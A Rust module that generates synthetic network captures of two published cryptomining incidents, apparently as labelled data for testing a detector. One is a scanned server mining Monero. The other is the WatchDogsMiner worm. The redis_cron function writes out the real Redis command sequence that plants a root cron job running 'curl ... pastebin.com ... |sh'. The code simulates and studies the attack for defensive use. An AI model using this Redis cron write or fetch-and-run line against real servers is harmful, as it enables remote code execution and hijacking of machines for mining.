//! Published incidents, retold as captures with invented wallets and inside addresses.

use std::net::{IpAddr, SocketAddr};

use crate::conversation::Speaker::{Miner, Pool};
use crate::conversation::{Conversation, Script};
use crate::dialect::{Dialect, Plan};
use crate::link::Link;
use crate::pcap::Frame;
use crate::recorder::Recorder;
use crate::tcp::{Ends, Wire};
use crate::truth::Stream;

/// A capture with its story.
pub struct Story {
    pub name: &'static str,
    pub told: &'static str,
    pub link_type: u32,
    pub frames: Vec<Frame>,
    pub streams: Vec<Stream>,
}

/// Checksum-valid and invented: nobody has its keys.
pub const MONERO_WALLET: &str = "472jm2WBFsScZaCueCmZPg7w7v3Rjn3hA6VNX3xz37agPrRSd5QErRjajcJvdVUyGfFGVoyrRUT76UTeAxrY2HTdCbVmY5q";

const SECOND: u64 = 1_000_000;

/// All of them.
pub fn all() -> Vec<Story> {
    vec![server_that_could_not_be_slow(), watchdogs()]
}

fn ip(text: &str) -> IpAddr {
    text.parse().expect("an address in the source")
}

fn socket(text: &str) -> SocketAddr {
    text.parse().expect("a socket address in the source")
}

/// A server that never opens connections by itself looks up a pool, connects to it and mines.
fn server_that_could_not_be_slow() -> Story {
    let link = Link::Vlan;
    let start = 1_693_555_200 * SECOND; // 2023-09-01T08:00:00Z
    let mut capture = Recorder::new(link, start, 49);
    let (server, office, resolver) = (ip("10.1.201.49"), ip("10.1.30.20"), ip("10.1.201.2"));
    let scanner = ip("203.0.113.59");

    // Two hosts look at the server's ports before: one outside, one inside.
    for (index, port) in [21, 23, 80, 443, 445, 1433, 3389, 6379, 8080, 9200].iter().enumerate() {
        let at = index as u64 * 40_000;
        capture.refused(at, (scanner, 40_000 + port).into(), (server, *port).into());
        capture.refused(at + 7000, (office, 50_000 + port / 2).into(), (server, *port).into());
    }
    // Ordinary life of the segment.
    let news = Some(ip("198.51.100.80"));
    capture.lookup(3 * SECOND, office, resolver, "www.example.org", news);
    capture.lookup(4 * SECOND, server, resolver, "ntp.internal.example", Some(ip("10.1.201.3")));

    capture.lookup(
        20 * SECOND,
        server,
        resolver,
        "pool.supportxmr.com",
        Some(ip("91.121.140.167")),
    );
    let plan = Plan {
        worker: "srv49".into(),
        shares: 40,
        share_gap: 30.0,
        job_gap: 60.0,
        ..Dialect::Monero.typical()
    };
    let mining = Dialect::Monero.converse(&plan, &mut capture.rng);
    let ends = Ends { miner: socket("10.1.201.49:45812"), pool: socket("91.121.140.167:3333") };
    capture.connection(20 * SECOND + 60_000, ends, &mining, &Wire::default());
    Story {
        name: "server-49",
        told: "A server that never opens connections by itself is scanned from outside and from an office \
               computer, looks up pool.supportxmr.com, connects to 91.121.140.167 and mines Monero.",
        link_type: link.link_type(),
        frames: capture.frames,
        streams: capture.streams,
    }
}

/// WatchDogsMiner: Redis without a password, a loader from a paste site, an ELF called .jpg, Monero.
fn watchdogs() -> Story {
    let link = Link::Ethernet;
    let start = 1_550_732_400 * SECOND; // 2019-02-21T07:00:00Z
    let mut capture = Recorder::new(link, start, 2019);
    let (victim, resolver) = (ip("192.168.20.15"), ip("192.168.20.1"));

    let ends = Ends { miner: socket("192.168.20.77:41822"), pool: socket("192.168.20.15:6379") };
    capture.connection(0, ends, &redis_cron(), &Wire::default());

    capture.lookup(60 * SECOND, victim, resolver, "pastebin.com", Some(ip("198.51.100.15")));
    let ends = Ends { miner: socket("192.168.20.15:36012"), pool: socket("198.51.100.15:80") };
    let loader =
        http_get("pastebin.com", "/raw/sByq0rym", "curl/7.29.0", "text/plain", b"#!/bin/bash\n");
    capture.connection(60 * SECOND + 50_000, ends, &loader, &Wire::default());

    capture.lookup(62 * SECOND, victim, resolver, "thyrsi.com", Some(ip("198.51.100.29")));
    let ends = Ends { miner: socket("192.168.20.15:36014"), pool: socket("198.51.100.29:80") };
    let mut elf = b"\x7fELF\x02\x01\x01\x00".to_vec();
    elf.extend(capture.rng.bytes(4000));
    let path = "/t6/672/1550667479x1822611209.jpg";
    let payload = http_get("thyrsi.com", path, "curl/7.29.0", "image/jpeg", &elf);
    capture.connection(62 * SECOND + 50_000, ends, &payload, &Wire::default());

    capture.lookup(70 * SECOND, victim, resolver, "xmr.f2pool.com", Some(ip("203.0.113.131")));
    let plan = Plan {
        worker: "x".into(),
        agent: "XMRig/2.9.4 (Linux x86_64) libuv/1.24.1 gcc/4.8.5".into(),
        shares: 25,
        rejects: 0.0,
        job_gap: 60.0,
        difficulty: 10_000.0,
        ..Dialect::Monero.typical()
    };
    let mining = Dialect::Monero.converse(&plan, &mut capture.rng);
    let ends = Ends { miner: socket("192.168.20.15:52544"), pool: socket("203.0.113.131:13531") };
    capture.connection(70 * SECOND + 50_000, ends, &mining, &Wire::default());
    Story {
        name: "watchdogs",
        told: "WatchDogsMiner: a neighbour writes a cron file through Redis, the victim fetches a loader from a paste \
               site and an ELF that is called .jpg, then mines Monero.",
        link_type: link.link_type(),
        frames: capture.frames,
        streams: capture.streams,
    }
}

/// The commands with which the worm makes Redis write a cron file.
fn redis_cron() -> Conversation {
    let mut script = Script::default();
    let job = "\n\n*/10 * * * * root curl -fsSL http://pastebin.com/raw/sByq0rym|sh\n\n";
    for command in [
        vec!["FLUSHALL"],
        vec!["SET", "Backup1", job],
        vec!["CONFIG", "SET", "dir", "/var/spool/cron/"],
        vec!["CONFIG", "SET", "dbfilename", "root"],
        vec!["SAVE"],
    ] {
        let mut bytes = format!("*{}\r\n", command.len());
        for word in command {
            bytes += &format!("${}\r\n{word}\r\n", word.len());
        }
        script.say(Miner, bytes).say(Pool, "+OK\r\n");
    }
    script.conversation
}

fn http_get(host: &str, path: &str, agent: &str, kind: &str, body: &[u8]) -> Conversation {
    let mut script = Script::default();
    script.say(
        Miner,
        format!(
            "GET {path} HTTP/1.1\r\nUser-Agent: {agent}\r\nHost: {host}\r\nAccept: */*\r\n\r\n"
        ),
    );
    let head = format!(
        "HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {}\r\n\r\n",
        body.len()
    );
    script.say(Pool, [head.as_bytes(), body].concat());
    script.conversation
}
